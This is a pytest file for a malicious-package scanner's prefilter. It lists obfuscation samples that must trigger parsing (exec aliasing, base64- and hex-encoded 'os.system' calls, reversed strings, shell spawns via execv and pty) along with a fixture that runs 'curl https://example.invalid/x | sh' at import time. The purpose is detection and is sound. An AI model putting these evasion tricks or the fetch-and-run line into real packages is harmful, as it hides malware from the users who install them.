"""The prefilter's guarantees (docs/performance.md): what it must parse, what it may skip,
and that load time still flows through a module it only summarises."""

from __future__ import annotations

from pathlib import Path

import pytest

from package_analysis.analysis import engine, prefilter
from package_analysis.analysis.model import PackageRef

# (source, why it must be parsed)
MUST_PARSE = [
    ("exec (payload)\n", "exec with a space before the call"),
    (
        "import pathlib, site\npathlib.Path(site.getusersitepackages(), 'x.py').write_text(c)\n",
        "a write into a site directory (a .pth or sitecustomize runs at every start)",
    ),
    ("run = exec\nrun(x)\n", "exec handed over as a value"),
    ("x = list(map(chr, [111, 115]))\n", "chr handed to map"),
    ("\uff45\uff58\uff45\uff43(x)\n", "fullwidth exec: NFKC folds it"),
    ("import os as o\no.execv('/bin/sh', ['sh'])\n", "os.exec* through an alias"),
    ("import os\no.system  (cmd)\n", "system with spacing"),
    ("name = '\\163\\171\\163'\n", "octal escapes spell a name"),
    ("name = '\\N{LATIN SMALL LETTER E}xec'\n", "named escapes"),
    ("fn = globals()['sys' + 'tem']\n", "a lookup by name"),
    ("mod = sys.modules['o' + 's']\n", "sys.modules by string"),
    ("import os\nf = getattr(os, 'sy' + 'stem')\n", "getattr on a risky module"),
    ("s = 'metsys'[::-1]\n", "a reversed string"),
    ("b = bytes([105, 109, 112])\n", "bytes from a list of numbers"),
    ("from os import system as s\ns('id')\n", "system imported under another name"),
    ("BLOB = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik7IHByaW50KDEyMyk='\n", "a base64 literal"),
    ("H = '696d706f7274206f733b6f732e73797374656d2827696427'\n", "a hex literal"),
    ("x = 1\n" + " " * 130 + "import os\n", "code pushed off screen"),
    ("t = 'abc\u202edef'\n", "a bidi control character"),
    ("# -*- coding: utf-8 -*-\nimport requests\nrequests.get(u)\n", "network"),
    ("import os, pty\npty . spawn('/bin/sh')\n", "pty imported beside another module"),
    ("import json, pickle as p\np.loads(b)\n", "pickle under another name"),
    ("import cloudpickle\ncloudpickle.loads(b)\n", "cloudpickle"),
    ("run = eval\nrun(x)\n", "eval handed over at the end of a line"),
    ("run = eval", "eval handed over at the end of the file"),
    ("run = compile if a else None\n", "compile chosen by a condition"),
    ("exec code in ns\n", "a Python 2 exec statement"),
    ("s = ''.join(reversed \\\n (t))\n", "reversed across a line continuation"),
    ("x = [chr\x0c(c) for c in n]\n", "chr with a form feed before the call"),
    ("import os, pdb as p\np.run(x)\n", "the debugger runs a code string"),
    ("from code import InteractiveConsole\nInteractiveConsole().push(x)\n", "a console"),
    ("from trace import Trace\nTrace().run(x)\n", "the tracer runs a code string"),
    ("import timeit\ntimeit.timeit(x, number=1)\n", "timeit runs a statement"),
    ("from timeit import Timer\nTimer(x).timeit()\n", "timeit's Timer imported"),
    ("x = 1; import pdb; pdb.run(y)\n", "the debugger imported after a semicolon"),
    ("import profile\nprofile.run(x)\n", "the profiler runs a code string"),
    ("s = yaml.unsafe_load(x)\n", "a YAML load that builds any object"),
]
MAY_SKIP = [
    "import math\n\ndef area(r):\n    return math.pi * r * r\n",
    "class Expr:\n    def eval(cls, x):\n        return x\n",  # a method named eval
    "import re\nPATTERN = re.compile('[a-z]+')\n",  # re.compile is not compile()
    "RULE = '" + "=" * 60 + "'\n",
    "URL = 'https://example.invalid/blob/0123456789abcdef0123456789abcdef01234567/a.py'\n",
    "sys.modules[__name__] = LazyModule(globals()['__file__'])\n",
    "N = 3141592653589793238462643383279502884197169399375105820974944\n",
    # prose about compile / eval / reversed order, `x.empty.`, pandas' own pickle methods
    "def f(x):\n    '''compile the expression, eval the tree in reversed order'''\n"
    "    return x.empty.copy()\n",
    "import pandas as pd\ndf = pd.read_pickle(path)\ndf.to_pickle(out)\n",
    "import traceback\nfrom .code import render\nprofile_name = 'x'\n",
    # a name imported from a module (sympy's matrix `trace`), a timing decorator named timeit
    "from sympy import Adjoint, trace\ntimeit = timethis('gruntz')\n@timeit\ndef f(): pass\n",
]


@pytest.mark.parametrize(("src", "why"), MUST_PARSE, ids=[w for _, w in MUST_PARSE])
def test_a_module_some_rule_may_fire_on_is_parsed(src: str, why: str) -> None:
    assert prefilter.triggers(src), why


@pytest.mark.parametrize("src", MAY_SKIP)
def test_plain_modules_are_skipped(src: str) -> None:
    assert not prefilter.triggers(src)


def test_install_time_modules_are_parsed_without_a_trigger() -> None:
    texts = {"pkg/setup.py": "from setuptools import setup\nsetup(name='x')\n", "pkg/m.py": ""}
    assert prefilter.python_files(texts, {"pkg/setup.py"}, set()) == ["pkg/setup.py"]


def test_importers_are_found_through_other_modules() -> None:
    texts = {
        "p/hot.py": "import subprocess\n",
        "p/middle.py": "from .hot import go\n",
        "p/top.py": "from p import middle\n",
        "p/other.py": "import json\n",
    }
    assert prefilter.importers(texts, {"p/hot.py"}) == ["p/middle.py", "p/top.py"]


def test_load_time_flows_through_a_module_that_is_not_parsed(tmp_path: Path) -> None:
    """The package's __init__ has no trigger (not parsed) but calls, at import, a function
    of a module that starts a process: that call is still load time."""
    pkg = tmp_path / "demo"
    pkg.mkdir()
    (pkg / "__init__.py").write_text("from .boot import start\n\nstart()\n")
    (pkg / "boot.py").write_text(
        "import subprocess\n\n\ndef start():\n"
        "    subprocess.Popen(['sh', '-c', 'curl https://example.invalid/x | sh'])\n"
    )
    (pkg / "later.py").write_text(
        "import subprocess\n\n\ndef never_called():\n    subprocess.Popen(['true'])\n"
    )
    ref = PackageRef("pypi", "demo", "1.0", "pkg:pypi/demo@1.0")
    found = engine.scan_tree(tmp_path, ecosystem="pypi", package=ref, artifact_sha256="0" * 64)
    process = [f for f in found if f.rule == "PY-INSTALL-PROCESS"]
    assert [(f.file, f.reachability) for f in process] == [("demo/boot.py", "import")]
